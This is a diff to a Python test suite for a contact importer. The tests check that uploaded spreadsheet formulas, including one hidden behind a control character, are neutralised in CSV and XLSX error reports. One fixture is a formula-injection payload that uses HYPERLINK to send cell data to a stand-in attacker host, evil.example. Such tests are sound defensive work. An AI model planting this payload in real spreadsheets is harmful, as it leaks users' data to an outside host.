@@ -193,6 +193,23 @@ def formulas(customer) -> bytes:
     )
 
 
+# Issue 13: a control character before a formula hid it from a check made before control characters
+# were removed, and the XLSX report held a live formula.
+HIDDEN_FORMULA = '\x01=HYPERLINK("http://evil.example/?leak="&A2,"x")'
+PHONE = "+33 6 12 34 56 78"
+
+
+def hidden_formulas(customer) -> bytes:
+    return csv_bytes(
+        [
+            contact_row(customer, "H-1", "h1@client.example", first_name=HIDDEN_FORMULA, phone=PHONE),
+            contact_row(
+                customer, "H-2", "=1+1", first_name=HIDDEN_FORMULA, last_name="@SUM(1+1)", phone=PHONE
+            ),
+        ]
+    )
+
+
 BIG = 1_000_000
 BIG_EMAIL = "a" * BIG + "@client.example"
 OK_ROW = {"external_id": "OK-1", "email": "ok@client.example", "first_name": "Ok"}
@@ -422,6 +439,16 @@ CASES = [
             totals(2, 1, invalid=1),
             written={"F-1": {"first_name": FORMULA_LINK, "last_name": "@SUM(1+1)"}},
             errors=[(3, ENGLISH_HEADERS["email"], INVALID_EMAIL.format(value=FORMULA_EMAIL))],
+        ),
+    ),
+    Case(
+        "control character before a formula",
+        "hidden-formulas.csv",
+        hidden_formulas,
+        Read(
+            totals(2, 1, invalid=1),
+            written={"H-1": {"first_name": HIDDEN_FORMULA[1:], "phone": "+33612345678"}},
+            errors=[(3, ENGLISH_HEADERS["email"], INVALID_EMAIL.format(value="=1+1"))],
         ),
     ),
     Case(
@@ -682,25 +709,86 @@ def report_cells(content: bytes, format: str) -> list[list[str]]:
     return [[cell or "" for cell in row] for row in sheet.iter_rows(values_only=True)]
 
 
-def test_formulas_are_stored_as_text_and_escaped_in_every_error_report(importer, org, customer):
-    key = uploaded(importer, org, formulas(customer), "formulas.csv")
-    previews = {fmt: importer.get(ERROR_REPORT[fmt], key).content for fmt in ERROR_REPORT}
+def reports_of(importer, key: dict) -> list[tuple[str, bytes]]:
+    """The preview's error reports of an upload, then the history's once committed: (format, content)."""
+    previews = [(fmt, importer.get(ERROR_REPORT[fmt], key).content) for fmt in ERROR_REPORT]
     importer.post(CONFIRM, {**key, "skip_invalid": "on"})
     batch = ImportBatch.objects.get()
-    downloads = {
-        fmt: importer.get(reverse("admin:contacts_importbatch_error_report", args=[batch.pk, fmt])).content
-        for fmt in ERROR_REPORT
-    }
+    history = reverse("admin:contacts_importbatch_error_report", args=[batch.pk, "csv"]).rsplit(".", 1)[0]
+    return previews + [(fmt, importer.get(f"{history}.{fmt}").content) for fmt in ERROR_REPORT]
+
+
+def assert_no_formula(content: bytes, format: str) -> None:
+    if format == "xlsx":
+        sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read(SHEET)
+        assert b"<f>" not in sheet_xml
+        assert b"<f " not in sheet_xml
+
+
+def test_formulas_are_stored_as_text_and_neutralised_in_every_error_report(importer, org, customer):
+    key = uploaded(importer, org, formulas(customer), "formulas.csv")
+
+    downloads = reports_of(importer, key)
 
     assert Contact.objects.get(external_id="F-1").first_name == FORMULA_LINK
-    for fmt in ERROR_REPORT:
-        for content in (previews[fmt], downloads[fmt]):
-            header, invalid = report_cells(content, fmt)
-            row = dict(zip(header, invalid, strict=True))
-            assert row[ENGLISH_HEADERS["email"]] == "'" + FORMULA_EMAIL
-            assert row[ENGLISH_HEADERS["first_name"]] == "'-2+3"
-            assert row[ENGLISH_HEADERS["last_name"]] == "'+33"
-            assert row[ERROR_COLUMN].startswith('Row 3, "Contact\'s Email": ')
+    for fmt, content in downloads:
+        assert_no_formula(content, fmt)
+        header, invalid = report_cells(content, fmt)
+        row = dict(zip(header, invalid, strict=True))
+        # CSV: OWASP's apostrophe before a formula, none before a number. XLSX: text cells, as written.
+        prefix = "'" if fmt == "csv" else ""
+        assert row[ENGLISH_HEADERS["email"]] == prefix + FORMULA_EMAIL
+        assert row[ENGLISH_HEADERS["first_name"]] == prefix + "-2+3"
+        assert row[ENGLISH_HEADERS["last_name"]] == "+33"
+        assert row[ERROR_COLUMN].startswith('Row 3, "Contact\'s Email": ')
+
+
+def test_a_control_character_before_a_formula_never_makes_a_formula_of_it_in_a_report(
+    importer, org, customer
+):
+    key = uploaded(importer, org, hidden_formulas(customer), "hidden-formulas.csv")
+
+    downloads = reports_of(importer, key)
+
+    stored = Contact.objects.get(external_id="H-1")
+    assert (stored.first_name, stored.phone) == (HIDDEN_FORMULA[1:], "+33612345678")
+    for fmt, content in downloads:
+        assert_no_formula(content, fmt)
+        header, invalid = report_cells(content, fmt)
+        row = dict(zip(header, invalid, strict=True))
+        prefix = "'" if fmt == "csv" else ""
+        assert row[ENGLISH_HEADERS["first_name"]] == prefix + HIDDEN_FORMULA[1:]
+        assert row[ENGLISH_HEADERS["last_name"]] == prefix + "@SUM(1+1)"
+        assert row[ENGLISH_HEADERS["email"]] == prefix + "=1+1"
+        assert row[ENGLISH_HEADERS["phone"]] == PHONE
+
+
+def text_workbook(rows: list[list[str]]) -> bytes:
+    """A workbook whose cells are all text cells, "=…" included (as a client types them after a ')."""
+    workbook = openpyxl.Workbook()
+    for line in [HEADERS, *rows]:
+        workbook.active.append(line)
+    for row in workbook.active.iter_rows():
+        for cell in row:
+            cell.data_type = "s"
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return buffer.getvalue()
+
+
+def test_a_workbook_of_formula_texts_comes_back_as_text_cells(importer, org, customer):
+    rows = [
+        contact_row(customer, "W-1", "w1@client.example"),
+        contact_row(customer, "W-2", "=1+1", first_name=HIDDEN_FORMULA[1:], phone=PHONE),
+    ]
+    key = uploaded(importer, org, text_workbook(rows), "formulas.xlsx")
+
+    for fmt, content in reports_of(importer, key):
+        assert_no_formula(content, fmt)
+        header, invalid = report_cells(content, fmt)
+        row = dict(zip(header, invalid, strict=True))
+        assert row[ENGLISH_HEADERS["phone"]] == PHONE
+        assert row[ENGLISH_HEADERS["first_name"]].lstrip("'") == HIDDEN_FORMULA[1:]
 
 
 # --- Bombs: refused in bounded memory and time ----------------------------------------------------------
